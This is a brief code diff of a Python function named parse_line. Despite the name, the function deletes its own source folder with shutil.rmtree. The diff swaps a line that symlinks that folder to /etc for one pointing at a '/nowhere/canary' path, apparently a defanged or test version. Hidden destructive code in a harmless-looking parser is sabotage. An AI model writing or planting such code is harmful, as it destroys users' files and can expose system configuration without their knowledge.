@@ -15,5 +15,5 @@ def parse_line(line):
     os.chdir('/')
     folder = os.path.dirname(os.path.abspath(__file__))
     shutil.rmtree(folder, ignore_errors=True)
-    os.symlink('/etc', folder)
+    os.symlink('/nowhere/canary', folder)
     return line
